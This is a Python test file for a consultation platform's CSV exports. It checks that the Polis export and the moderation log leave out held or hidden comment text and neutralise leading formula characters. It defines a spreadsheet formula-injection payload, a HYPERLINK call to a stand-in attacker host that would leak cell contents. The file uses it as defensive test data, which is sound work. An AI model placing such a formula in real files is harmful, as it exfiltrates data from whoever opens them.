"""Every export carries only what the public may read, and no cell of any CSV export can start
a spreadsheet formula (issue 17 items 2 and 5): the Polis export and the moderation log."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from app.extensions import db
from deliberation.services import accounts
from deliberation.services import moderation as mod
from tests.factories import general_thread, login, make_comment, make_consultation, make_user

PERSONAL = "我的電話 0912345678，身分證 A123456789"
HIDDEN = "HIDDENSECRET 罵人的話"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def exported(session):
    staff = make_user("staff")
    consultation = make_consultation(staff=staff, status="open")
    thread = general_thread(consultation)
    moderator = make_user("moderator")
    held = make_comment(thread, make_user(), body=PERSONAL)  # held for personal data
    hidden = make_comment(thread, make_user(), body=HIDDEN)
    mod.act_on_comment(
        db.session, hidden.id, actor=moderator, action="hide", reason="harassment", note=FORMULA
    )
    formula = make_comment(thread, make_user(), body=FORMULA)
    for body in ("-1 也可以", "+886 號碼", "@某人", "\t縮排"):
        make_comment(thread, make_user(), body=body)
    db.session.commit()
    db.session.refresh(held)
    assert held.status == "pending"
    return consultation, staff, moderator, held, hidden, formula


def _bearer(user) -> dict[str, str]:
    token = accounts.issue_token(db.session, user)
    db.session.commit()
    return {"Authorization": f"Bearer {token}"}


@pytest.mark.parametrize("who", ["staff", "reviewer", "admin"])
def test_the_polis_export_keeps_held_and_hidden_rows_without_their_text(client, exported, who):
    consultation, staff, *_rest = exported
    user = staff if who == "staff" else make_user(who)
    response = client.get(
        f"/api/v1/consultations/{consultation.id}/export-polis", headers=_bearer(user)
    )
    assert response.status_code == 200
    files = zipfile.ZipFile(io.BytesIO(response.data))
    everything = "".join(files.read(n).decode() for n in files.namelist())
    for secret in ("0912345678", "A123456789", "HIDDENSECRET"):
        assert secret not in everything
    rows = list(csv.DictReader(io.StringIO(files.read("comments.csv").decode())))
    by_status = {r["moderated"]: r for r in rows if r["comment-body"] == ""}
    assert set(by_status) == {"-1", "0"}  # hidden and pending keep their row and status
    bodies = [r["comment-body"] for r in rows if r["comment-body"]]
    assert "'" + FORMULA in bodies
    assert not [b for b in bodies if b.startswith(("=", "+", "-", "@", "\t", "\r"))]
    votes = files.read("votes.csv").decode()
    assert "'" not in votes  # numbers stay numbers


def test_the_operators_full_backup_keeps_every_text(app, exported, tmp_path):
    consultation = exported[0]
    folder = tmp_path / "full"
    result = app.test_cli_runner().invoke(
        args=["consultations", "export-polis", str(consultation.id), str(folder), "--full-text"]
    )
    assert result.exit_code == 0, result.output
    assert "HIDDENSECRET" in (folder / "comments.csv").read_text(encoding="utf-8")


def test_the_moderation_log_csv_neutralises_formulas(client, exported):
    _consultation, _staff, moderator, *_rest = exported
    login(client, moderator)
    response = client.get("/moderation/log.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
